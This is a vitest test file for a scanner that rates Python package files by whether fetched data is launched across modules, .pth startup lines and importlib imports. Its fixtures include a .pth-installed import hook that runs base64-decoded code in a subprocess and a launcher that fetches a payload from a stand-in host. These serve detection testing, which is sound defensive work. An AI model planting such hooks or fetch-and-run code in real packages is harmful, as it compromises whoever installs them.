import { expect, test } from 'vitest';
import { FETCHES, foundIn, STARTS } from './found-in.js';

test('what one module fetches and another one starts is one behaviour, by way of a third', async () => {
  const files = { 'plot/__init__.py': 'from .first import Bed\n\nBed().grow()\n', 'plot/first.py': 'from .fetching import fetch\nfrom .starting import launch\n\n\nclass Bed:\n    def grow(self):\n        launch(fetch())\n', 'plot/fetching.py': FETCHES, 'plot/starting.py': STARTS };
  expect(await foundIn(files)).toEqual(['critical plot/starting.py']);
});

test('what nobody calls stays latent', async () => {
  const files = { 'plot/__init__.py': '', 'plot/first.py': 'from .fetching import fetch\nfrom .starting import launch\n\n\ndef grow():\n    launch(fetch())\n', 'plot/fetching.py': FETCHES, 'plot/starting.py': STARTS };
  expect(await foundIn(files)).toEqual(['low plot/starting.py']);
});

test('a function that is given what the package brings runs nothing that was fetched', async () => {
  expect(await foundIn({ 'plot/__init__.py': 'from .starting import launch\nfrom .fetching import fetch\n\nlaunch(b"echo")\nSTATE = fetch\n', 'plot/fetching.py': FETCHES, 'plot/starting.py': STARTS })).toEqual([]);
});

const HOOK = 'import base64, subprocess, sys\nclass Finder:\n    def find_spec(self, name, path=None, target=None):\n        subprocess.Popen([sys.executable, "-c", base64.b64decode(x)])\ndef install(finders): finders.insert(0, Finder())\n';

test('what a line of a .pth file calls runs when Python starts', async () => {
  expect(await foundIn({ 'plot.pth': '/some/folder\nimport sys, plot.hook; plot.hook.install(sys.meta_path)\n', 'plot/__init__.py': '', 'plot/hook.py': HOOK }, 'exec-of-decoded-data')).toContain('critical plot/hook.py');
});

test('a line of a .pth file that is a folder calls nothing', async () => {
  expect(await foundIn({ 'plot.pth': 'plot.hook.install(sys.meta_path)\n', 'plot/__init__.py': '', 'plot/hook.py': HOOK }, 'exec-of-decoded-data')).toEqual(['low plot/hook.py']);
});

const start = (name: string): string => `import importlib\n\ntools = importlib.import_module("${name}")\ntools.launch(b"x")\n`;

test('modules that are imported by their names are read together', async () => {
  const tools = STARTS.replace('launch(data):', 'launch(data):\n    from urllib.request import urlopen\n    data = urlopen("https://example.invalid/part").read()');
  expect(await foundIn({ 'plot/__init__.py': start('plot.starting'), 'plot/starting.py': tools })).toContain('critical plot/starting.py');
  expect(await foundIn({ 'plot/__init__.py': start('os.path'), 'plot/starting.py': tools })).not.toContain('critical plot/starting.py');
});
